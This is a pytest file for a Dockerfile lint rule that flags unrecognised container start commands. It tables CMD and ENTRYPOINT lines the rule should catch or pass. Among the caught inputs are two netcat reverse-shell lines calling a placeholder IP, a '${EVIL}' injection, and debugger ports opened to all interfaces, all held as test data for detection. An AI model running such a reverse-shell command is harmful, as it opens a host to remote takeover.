"""Tables for the rule unknown-start."""

from __future__ import annotations

import pytest

from bot.findings.parse import parse
from bot.findings.rules import unknown_start
from tests.bot.findings.given import caught, given, stage

CATCHES = [
    ('CMD ["bash", "-c", "x"]', 2),
    ('CMD ["sh", "-c", "exec nc -e /bin/sh 1.2.3.4 4444"]', 2),
    ('CMD ["sh", "-c", "gunicorn a:b"]', 2),
    ('CMD ["sh", "-c", "exec gunicorn a:b && ls"]', 2),
    ('CMD ["sh", "-c", "exec gunicorn a:b; ls"]', 2),
    ('CMD ["sh", "-c", "exec A=b gunicorn a:b"]', 2),
    ('CMD ["sh", "-c", "exec gunicorn ${EVIL}"]', 2),
    ('CMD ["sh", "-c", "exec gunicorn a:b", "x"]', 2),
    ('CMD ["sh", "-c"]', 2),
    ("CMD []", 2),
    ('CMD ["nc", "-e", "/bin/sh", "1.2.3.4", "4444"]', 2),
    ('CMD ["python", "-c", "import os"]', 2),
    ('CMD ["node", "-e", "1"]', 2),
    ('CMD ["node", "--inspect=0.0.0.0", "x.js"]', 2),
    ('CMD ["mytool"]', 2),
    ('ENV PATH=/app/.venv/bin:$PATH\nCMD ["mytool", "x"]', 3),
    ('ENV PATH=/usr/bin:$PATH\nCMD ["mytool"]', 3),
    ('ENTRYPOINT ["/usr/bin/curl", "x"]', 2),
    ('CMD ["java", "-agentlib:jdwp=x", "-jar", "a.jar"]', 2),
    ('CMD ["catalina.sh", "jpda", "run"]', 2),
    ('CMD ["python", "-m", "pip", "install", "x"]', 2),
    ('CMD ["sh", "other.sh"]', 2),
    ('CMD ["tini", "--", "bash"]', 2),
]
PASSES = [
    'CMD ["gunicorn", "mod:app"]',
    'CMD ["gunicorn", "--bind", "0.0.0.0:8080", "mod:create_app()"]',
    'CMD ["sh", "-c", "exec uvicorn pkg.mod:x --host 0.0.0.0 --port ${PORT}"]',
    'CMD ["sh", "-c", "exec gunicorn --bind 0.0.0.0:${PORT} \'mod:create_app()\'"]',
    'CMD ["node", "server.js"]',
    'CMD ["node", "dist/index.mjs", "--port", "80"]',
    'CMD ["tini", "--", "python", "main.py"]',
    'ENTRYPOINT ["/usr/bin/tini", "--"]',
    'CMD ["nginx", "-g", "daemon off;"]',
    'CMD ["java", "-XX:MaxRAMPercentage=75", "-jar", "/app/app.jar"]',
    'CMD ["java", "-cp", "app.jar:lib/*", "Main"]',
    'CMD ["catalina.sh", "run"]',
    'CMD ["/app/server", "serve"]',
    'CMD ["./server"]',
    'ENV PATH=/app/.venv/bin:$PATH\nCMD ["mytool"]',
    'CMD ["python", "-m", "pkg"]',
    'CMD ["bash", "start.sh"]',
    'CMD ["next", "start", "-p", "3000"]',
    'CMD ["dotnet", "App.dll"]',
    'CMD ["sh", "-c", "exec dotnet App.dll --urls http://0.0.0.0:${PORT}"]',
    'CMD ["celery", "-A", "proj", "worker", "--loglevel=info"]',
    "CMD npm start",
]


@pytest.mark.parametrize(("text", "line"), CATCHES)
def test_catches(text: str, line: int) -> None:
    assert caught(unknown_start, text) == [line]


@pytest.mark.parametrize("text", PASSES)
def test_lets_pass(text: str) -> None:
    assert caught(unknown_start, text) == []


@pytest.mark.parametrize(
    ("start", "named"),
    [
        ('["tini", "--", "node", "--inspect=0.0.0.0", "x.js"]', "node --inspect=0.0.0.0 x.js"),
        ('["sh", "-c", "exec gunicorn ${EVIL}"]', "gunicorn ${EVIL}"),
        ("[]", "(nothing)"),
    ],
)
def test_names_the_command_as_the_repository_does(start: str, named: str) -> None:
    parsed = parse(stage(f"CMD {start}"), "Dockerfile")

    (hit,) = unknown_start.check(parsed, given(parsed))

    assert hit.message == f"the start command {named} is not a known one"
